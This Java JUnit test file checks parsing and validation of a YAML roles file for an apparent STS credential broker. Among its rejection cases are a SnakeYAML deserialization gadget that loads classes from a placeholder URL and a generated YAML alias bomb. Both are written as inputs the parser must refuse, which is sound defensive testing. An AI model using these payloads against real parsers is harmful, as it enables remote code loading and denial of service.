package io.stsbroker.policy;

import io.stsbroker.config.BrokerConfig;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * {@code broker.roles-file}: a top-level {@code roles:} map shaped like {@code broker.roles}, read
 * strictly (an unknown key would otherwise deny silently) and validated by the same
 * {@link RoleValidator} as the configuration.
 */
class RolesFileTest {

    static BrokerConfig config(String... properties) {
        return io.stsbroker.testing.TestConfigs.broker(properties);
    }

    static RolesFile.Content parse(String yaml) {
        byte[] b = yaml.getBytes(StandardCharsets.UTF_8);
        return RolesFile.parse(new RolesFile.Raw(b, RolesFile.sha256(b)));
    }

    static RoleCatalogue catalogue(String yaml, String... properties) {
        return RoleCatalogue.from(config(properties), parse(yaml));
    }

    @Test
    void rolesHaveTheShapeOfBrokerRolesWithTheSameDefaultsAndConversions() {
        RoleCatalogue c = catalogue("""
                roles:
                  reader:
                    arn: acs:ram::1234567890123456:role/reader
                    allow:
                      - system:serviceaccount:search:*
                      - apikey:reporting
                  writer:
                    arn: acs:ram::1234567890123456:role/writer
                    duration: 2h
                    policy: '{"Version":"1","Statement":[]}'
                    external-id: 12345
                    allow: apikey:a, apikey:b
                  seconds:
                    arn: acs:ram::1234567890123456:role/seconds
                    duration: 7200
                  iso:
                    arn: acs:ram::1234567890123456:role/iso
                    duration: PT3H
                """);
        Role reader = c.find("reader").orElseThrow();
        assertThat(reader.duration()).isEqualTo(Duration.ofHours(1));
        assertThat(reader.grants("system:serviceaccount:search:indexer")).isTrue();
        assertThat(reader.grants("system:serviceaccount:other:indexer")).isFalse();
        Role writer = c.find("writer").orElseThrow();
        assertThat(writer.duration()).isEqualTo(Duration.ofHours(2));
        // Kept in canonical form (SessionPolicy): sorted keys, no whitespace.
        assertThat(writer.policy()).hasValue("{\"Statement\":[],\"Version\":\"1\"}");
        assertThat(writer.externalId()).hasValue("12345");
        assertThat(writer.grants("apikey:a")).isTrue();
        assertThat(writer.grants("apikey:b")).isTrue();
        assertThat(c.find("seconds").orElseThrow().duration()).isEqualTo(Duration.ofHours(2));
        assertThat(c.find("iso").orElseThrow().duration()).isEqualTo(Duration.ofHours(3));
        assertThat(c.find("seconds").orElseThrow().allow()).isEmpty();
        assertThat(c.size()).isEqualTo(4);
    }

    @Test
    void explicitlyEmptyRolesRemoveEveryFileRole() {
        assertThat(catalogue("roles: {}\n").size()).isZero();
        assertThat(catalogue("roles:\n").size()).isZero();
    }

    @Test
    void shapeErrorsAreRefusedNamingTheProblem() {
        Map<String, String> cases = new java.util.LinkedHashMap<>();
        cases.put("", "the file is empty");
        cases.put("   \n# only a comment\n", "the file is empty");
        cases.put("- a\n- b\n", "expected a mapping with the single key 'roles'");
        cases.put("rolez: {}\n", "unknown top-level key 'rolez'");
        cases.put("roles: {}\nbroker: {}\n", "unknown top-level key 'broker'");
        cases.put("roles: [a, b]\n", "'roles' must be a mapping");
        cases.put("roles:\n  r: just-a-string\n", "roles.r must be a mapping");
        cases.put("roles:\n  r:\n    arn: acs:ram::1:role/r\n    alow: [apikey:x]\n", "roles.r.alow: unknown setting");
        cases.put("roles:\n  r:\n    allow: [apikey:x]\n", "roles.r.arn is required");
        cases.put("roles:\n  r:\n    arn: acs:ram::1:role/r\n    policy: {Version: '1'}\n",
                "roles.r.policy must be a single value, not a mapping (write the session policy as a JSON string)");
        cases.put("roles:\n  r:\n    arn: acs:ram::1:role/r\n    duration: soon\n", "roles.r.duration='soon': not a duration");
        cases.put("roles:\n  r:\n    arn: acs:ram::1:role/r\n  r:\n    arn: acs:ram::1:role/r\n", "not valid YAML");
        cases.put("roles:\n  r: {arn: [x\n", "not valid YAML");
        cases.put("roles:\n  1:\n    arn: acs:ram::1:role/r\n", "role name 1 must be a string");
        cases.put("roles: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
                "not valid YAML");
        for (Map.Entry<String, String> c : cases.entrySet()) {
            assertThatThrownBy(() -> parse(c.getKey())).as(c.getKey())
                    .isInstanceOf(IllegalArgumentException.class).hasMessageContaining(c.getValue());
        }
    }

    @Test
    void nonUtf8AndOversizedFilesAreRefused() {
        byte[] latin1 = "roles:\n  caf\u00e9:\n    arn: x\n".getBytes(StandardCharsets.ISO_8859_1);
        assertThatThrownBy(() -> RolesFile.parse(new RolesFile.Raw(latin1, RolesFile.sha256(latin1))))
                .hasMessageContaining("not UTF-8");
        byte[] big = new byte[RolesFile.MAX_BYTES + 1];
        java.util.Arrays.fill(big, (byte) ' ');
        assertThatThrownBy(() -> RolesFile.parse(new RolesFile.Raw(big, RolesFile.sha256(big))))
                .hasMessageContaining("larger than");
    }

    @Test
    void aliasBombIsRefused() {
        StringBuilder yaml = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'k'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            yaml.append(String.join(", ", java.util.Collections.nCopies(10, "*" + prev))).append("]\n");
            prev = c;
        }
        assertThatThrownBy(() -> parse(yaml.toString())).hasMessageContaining("not valid YAML");
    }

    @Test
    void valuesAreValidatedLikeBrokerRolesNamingTheFileProperty() {
        assertThatThrownBy(() -> catalogue("roles:\n  r:\n    arn: arn:aws:iam::1:role/x\n"))
                .hasMessageContaining("roles.r.arn='arn:aws:iam::1:role/x'")
                .hasMessageContaining("expected acs:ram::<account-id>:role/<role-name>")
                .hasMessageNotContaining("broker.roles.r");
        assertThatThrownBy(() -> catalogue("roles:\n  r:\n    arn: acs:ram::1:role/r\n    duration: 600\n"))
                .hasMessageContaining("roles.r.duration").hasMessageContaining("900 to 43200");
        assertThatThrownBy(() -> catalogue("roles:\n  r:\n    arn: acs:ram::1:role/r\n    policy: 'not json'\n"))
                .hasMessageContaining("roles.r.policy").hasMessageContaining("JSON object");
        assertThatThrownBy(() -> catalogue("roles:\n  r:\n    arn: acs:ram::1:role/r\n    allow: ['']\n"))
                .hasMessageContaining("roles.r.allow").hasMessageContaining("must not be blank");
        assertThatThrownBy(() -> catalogue("roles:\n  'bad name':\n    arn: acs:ram::1:role/r\n"))
                .hasMessageContaining("roles.bad name");
    }

    @Test
    void aRoleDefinedInBothPlacesIsRefused() {
        assertThatThrownBy(() -> catalogue("roles:\n  reader:\n    arn: acs:ram::1:role/reader\n",
                "broker.roles.reader.arn", "acs:ram::1:role/reader"))
                .hasMessageContaining("roles.reader").hasMessageContaining("also defined in broker.roles");
        RoleCatalogue both = catalogue("roles:\n  file-role:\n    arn: acs:ram::1:role/f\n",
                "broker.roles.config-role.arn", "acs:ram::1:role/c");
        assertThat(List.of(both.find("file-role").isPresent(), both.find("config-role").isPresent())).containsOnly(true);
    }
}
